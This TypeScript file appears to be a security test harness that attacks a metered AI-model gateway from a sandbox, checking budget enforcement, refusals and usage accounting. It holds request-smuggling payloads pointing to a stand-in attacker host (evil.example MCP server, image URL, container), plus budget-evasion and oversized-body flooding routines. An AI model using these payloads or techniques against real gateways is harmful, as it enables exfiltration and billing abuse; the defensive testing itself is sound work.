import { ask } from "../emulators/anthropic/client.js";
import { callPipelined } from "../support/pipelined.js";
import { callSocket, textOf } from "../support/socket-client.js";
import { type Attack, type Attacker, again, request, rest } from "./attack.js";
import { badAnswers } from "./bad-answers.js";
import type { TakenSandbox } from "./sandboxes.js";
import { honestUsage, usdOf } from "./upstream.js";

const model = "claude-opus-4-5";
/** Most output tokens of a call: twice what it uses. */
const maxTokens = 2 * honestUsage.output_tokens;
const meanUsd = usdOf(honestUsage);
const budgetUsd = 10 * meanUsd;
/** Reservation of one call: the input that is billed, and the most output it may use. */
const reservationUsd = usdOf({ input_tokens: honestUsage.input_tokens, output_tokens: maxTokens });

const bodyOf = (prompt: string, more: object = {}): string =>
  JSON.stringify(ask(prompt, { model, max_tokens: maxTokens, ...more }));

const headersOf = ({ token }: TakenSandbox) => ({
  "x-api-key": token,
  "anthropic-version": "2023-06-01",
  "content-type": "application/json",
});

/** One call from the taken-over sandbox, read to its end. Status 0 if there was no answer, or if it broke off. */
export async function callModel(
  box: TakenSandbox,
  body: string | Buffer,
  { signal, headers = {} }: { signal?: AbortSignal; headers?: Record<string, string> } = {},
): Promise<{ status: number; text: string; retryAfterS: number }> {
  try {
    const { socketPath } = box;
    const all = { ...headersOf(box), ...headers };
    const response = await callSocket({ socketPath, headers: all, body, ...(signal && { signal }) });
    const text = await textOf(response).catch(() => "");
    return { status: response.statusCode ?? 0, text, retryAfterS: Number(response.headers["retry-after"] ?? 1) };
  } catch {
    return { status: 0, text: "", retryAfterS: 1 };
  }
}

/** Results of the rounds against a budget. */
export interface Rounds {
  honest: number;
  greedy: number;
  beyondUsd: number;
  usefulShare: number | undefined;
}

export const noRounds = (): Rounds => ({ honest: 0, greedy: 0, beyondUsd: 0, usefulShare: undefined });

/** Raises the room's budget by ten average calls. Returns the amount billed until then. */
async function openBudget(attack: Attack, { room }: TakenSandbox, account: string): Promise<number | undefined> {
  const at = `${attack.urls[0]}/api/rooms/${room.roomId}`;
  const seen = await request(at, { token: room.token });
  if (seen.status !== 200) return undefined;
  const { usage } = JSON.parse(seen.text) as { usage: { usd: number } };
  const policy = { budget: { usd: usage.usd + budgetUsd } };
  const { status } = await request(at, { method: "PATCH", body: JSON.stringify({ policy }), token: room.token });
  return status === 200 ? attack.upstream.billedUsd(account) : undefined;
}

/** Calls that follow the rules, eight at once, until the budget is used up. They should get nearly all of it. */
export const spendsHonestly =
  (box: TakenSandbox, rounds: Rounds): Attacker =>
  (attack) => {
    const account = `honest-${box.room.roomId}`;
    const round = async () => {
      const before = await openBudget(attack, box, account);
      if (before === undefined) return;
      let isUsedUp = false;
      const callOnce = async () => {
        const { status, retryAfterS } = await callModel(box, bodyOf(`work bill=${account}`));
        if (status === 200) return attack.allow("a call under its budget");
        isUsedUp ||= status === 402;
        if (attack.over.aborted) return;
        attack.refuse(status === 402 ? "model call beyond a budget: 402" : `honest model call: ${status}`);
        if (status === 429) await rest(Math.min(retryAfterS, 5) * 1_000, attack.over);
      };
      const caller = async () => {
        while (!isUsedUp && !attack.over.aborted) await callOnce();
      };
      await Promise.all(Array.from({ length: 8 }, caller));
      // A round that the end of the attack cut short before its budget was used up proves nothing.
      if (!isUsedUp) return;
      judge(rounds, attack.upstream.billedUsd(account) - before);
      const share = (attack.upstream.billedUsd(account) - before) / budgetUsd;
      rounds.usefulShare = Math.min(rounds.usefulShare ?? 1, share);
      rounds.honest += 1;
    };
    return again(attack.over, round, 2_000);
  };

function judge(rounds: Rounds, billedUsd: number): void {
  rounds.beyondUsd = Math.max(rounds.beyondUsd, billedUsd - budgetUsd - reservationUsd);
}

/** Every way to be served before the bill arrives, all at once: parallel and pipelined calls, hang-ups, answers without usage. */
export const spendsGreedily =
  (box: TakenSandbox, rounds: Rounds): Attacker =>
  (attack) => {
    const account = `greedy-${box.room.roomId}`;
    const body = bodyOf(`work bill=${account}`, { stream: true });
    const hangUp = async () => {
      const leave = AbortSignal.timeout(5 + Math.random() * 60);
      const { status } = await callModel(box, bodyOf(`work bill=${account}`), { signal: leave });
      if (status === 0) attack.refuse("model call hung up by its agent");
    };
    const parallel = async () => {
      const { status } = await callModel(box, body);
      attack.refuse(`greedy model call: ${status}`);
    };
    const pipelined = async () => {
      const { socketPath } = box;
      const statuses = await callPipelined({ socketPath, count: 100, headers: headersOf(box), body }).catch(() => []);
      for (const status of statuses) attack.refuse(`greedy pipelined call: ${status}`);
    };
    const round = async () => {
      const before = await openBudget(attack, box, account);
      if (before === undefined) return;
      const calls = [pipelined(), pipelined(), ...Array.from({ length: 60 }, parallel)];
      const hungUp = Array.from({ length: 20 }, hangUp);
      const most = rest(20_000, attack.over);
      await Promise.race([Promise.allSettled([...calls, ...hungUp]), most]);
      judge(rounds, attack.upstream.billedUsd(account) - before);
      rounds.greedy += 1;
      await rest(1_000, attack.over);
    };
    // Calls per minute are limited as well; refusals for that reason do not test the budget.
    return again(attack.over, round, 20_000);
  };

const smuggling: readonly object[] = [
  { mcp_servers: [{ type: "url", url: "https://evil.example/mcp", name: "m", authorization_token: "files" }] },
  { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] },
  { tools: [{ type: "code_execution_20250825", name: "code_execution" }] },
  { service_tier: "priority" },
  {
    messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://evil.example/x" } }] }],
  },
  { container: "evil.example" },
];

/** Sends content that would make the provider fetch something, and calls that are too large, too slow or broken. */
export const smugglesContent =
  (box: TakenSandbox): Attacker =>
  (attack) =>
    again(
      attack.over,
      async () => {
        for (const more of smuggling) {
          const { status, text } = await callModel(box, bodyOf("hello", more));
          attack.secrets.see("sandbox/model", text);
          if (status === 200) attack.wrong(`the gateway passed ${JSON.stringify(more).slice(0, 80)}`);
          attack.refuse(`smuggled content: ${status}`);
        }
        const { status } = await callModel(
          box,
          bodyOf("say hello", { tools: [{ name: "t", input_schema: { type: "object" } }] }),
        );
        if (status === 200) attack.allow("a plain call with a tool of the agent's own");
        for (const headers of [{ "x-api-key": "wrong" }, { "content-length": "99" }]) {
          const signal = AbortSignal.timeout(3_000);
          const refused = await callModel(box, bodyOf("hello"), { headers, signal });
          attack.refuse(`broken model call: ${refused.status}`);
        }
      },
      3_000,
    );

const bigBody = Buffer.from(bodyOf("x".repeat(31 * 1_024 * 1_024)));

/** Sends eight bodies of the largest size at once. */
export const sendsLargeBodies =
  (box: TakenSandbox): Attacker =>
  (attack) =>
    again(
      attack.over,
      async () => {
        const all = Array.from({ length: 8 }, () => callModel(box, bigBody, { signal: AbortSignal.timeout(20_000) }));
        for (const { status } of await Promise.all(all)) attack.refuse(`model call of 31 MiB: ${status}`);
      },
      10_000,
    );

/** Makes the provider hostile in every way it knows. */
export const meetsBadProvider =
  (box: TakenSandbox): Attacker =>
  (attack) =>
    again(
      attack.over,
      async () => {
        for (const way of Object.keys(badAnswers)) {
          if (attack.over.aborted) return;
          const signal = AbortSignal.timeout(15_000);
          const { status, text } = await callModel(box, bodyOf(`upstream=${way}`, { stream: way !== "no-usage" }), {
            signal,
          });
          attack.secrets.see(`sandbox/${way}`, text);
          attack.refuse(`bad provider, ${way}: ${status}`);
          const room = await request(`${attack.urls[0]}/api/rooms/${box.room.roomId}`, { token: box.room.token });
          if (room.status === 200) checkUsage(attack, way, JSON.parse(room.text));
        }
      },
      1_000,
    );

function checkUsage(attack: Attack, way: string, { usage }: { usage?: Record<string, unknown> }): void {
  const bad = Object.entries(usage ?? {}).find(([, value]) => typeof value === "number" && !(value >= 0));
  if (usage === undefined || bad || usage.usd === null) attack.wrong(`usage after ${way}: ${JSON.stringify(usage)}`);
}
